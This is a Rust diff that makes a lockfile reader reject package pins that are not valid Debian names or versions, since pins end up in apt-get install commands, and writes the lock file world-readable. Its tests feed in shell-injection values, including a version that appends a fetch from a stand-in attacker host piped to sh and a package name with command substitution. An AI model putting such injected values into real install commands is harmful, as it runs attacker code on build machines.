@@ -60,7 +60,24 @@ impl Lockfile {
         if lock.version != LOCK_VERSION {
             return Err(Error::LockParse { path: path.to_path_buf(), message: format!("version {} is not the supported version {LOCK_VERSION}", lock.version) });
         }
+        lock.check_pins().map_err(|message| Error::LockParse { path: path.to_path_buf(), message })?;
         Ok(Some(lock))
+    }
+
+    /// Pins go into `apt-get install pkg=version` lines, so each must be a Debian package name
+    /// and a Debian version, nothing a shell could read differently.
+    fn check_pins(&self) -> std::result::Result<(), String> {
+        for (stack, entry) in &self.stacks {
+            for (package, version) in &entry.pins {
+                if !crate::debian::is_package_name(package) {
+                    return Err(format!("stack `{stack}` pins `{package}`, which is not a Debian package name"));
+                }
+                if !crate::debian::is_version(version) {
+                    return Err(format!("stack `{stack}` pins `{package}` to `{version}`, which is not a Debian version"));
+                }
+            }
+        }
+        Ok(())
     }
 
     /// The lock as text: sorted and stable.
@@ -78,6 +95,9 @@ impl Lockfile {
             .tempfile_in(dir)
             .map_err(|e| Error::io("create a temporary file in", dir, e))?;
         tmp.write_all(self.to_text().as_bytes()).map_err(|e| Error::io("write", tmp.path().to_path_buf(), e))?;
+        // A temporary file is created 0600; the lock is a shared, committed file.
+        use std::os::unix::fs::PermissionsExt;
+        tmp.as_file().set_permissions(std::fs::Permissions::from_mode(0o644)).map_err(|e| Error::io("set the mode of", tmp.path().to_path_buf(), e))?;
         tmp.as_file().sync_all().map_err(|e| Error::io("sync", tmp.path().to_path_buf(), e))?;
         tmp.persist(path).map_err(|e| Error::io("replace", path, e.error))?;
         if let Ok(d) = std::fs::File::open(dir) {
@@ -123,5 +143,45 @@ impl LockGuard {
 impl Drop for LockGuard {
     fn drop(&mut self) {
         let _ = self.file.unlock();
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn lock_with_pin(package: &str, version: &str) -> String {
+        format!("version = 1\n[stacks.worker]\nhash = \"sha256:00\"\n[stacks.worker.pins]\n{package:?} = {version:?}\n")
+    }
+
+    fn read_text(text: &str) -> Result<Option<Lockfile>> {
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("images.lock");
+        std::fs::write(&path, text).unwrap();
+        Lockfile::read(&path)
+    }
+
+    #[test]
+    fn pins_must_be_debian_versions() {
+        let lock = read_text(&lock_with_pin("curl", "7.88.1-10+deb12u8")).unwrap().unwrap();
+        assert_eq!(lock.stacks["worker"].pins["curl"], "7.88.1-10+deb12u8");
+        let err = read_text(&lock_with_pin("curl", "7.88; curl evil.example | sh")).unwrap_err();
+        assert!(
+            err.to_string().ends_with("stack `worker` pins `curl` to `7.88; curl evil.example | sh`, which is not a Debian version"),
+            "{err}"
+        );
+        let err = read_text(&lock_with_pin("curl $(id)", "1.0")).unwrap_err();
+        assert!(err.to_string().ends_with("stack `worker` pins `curl $(id)`, which is not a Debian package name"), "{err}");
+    }
+
+    #[test]
+    fn the_lock_is_written_world_readable() {
+        use std::os::unix::fs::PermissionsExt;
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("images.lock");
+        Lockfile { version: LOCK_VERSION, stacks: BTreeMap::new() }.write_atomic(&path).unwrap();
+        assert_eq!(std::fs::metadata(&path).unwrap().permissions().mode() & 0o777, 0o644);
+        let names: Vec<_> = std::fs::read_dir(dir.path()).unwrap().map(|e| e.unwrap().file_name()).collect();
+        assert_eq!(names, ["images.lock"], "no temporary file is left behind");
     }
 }
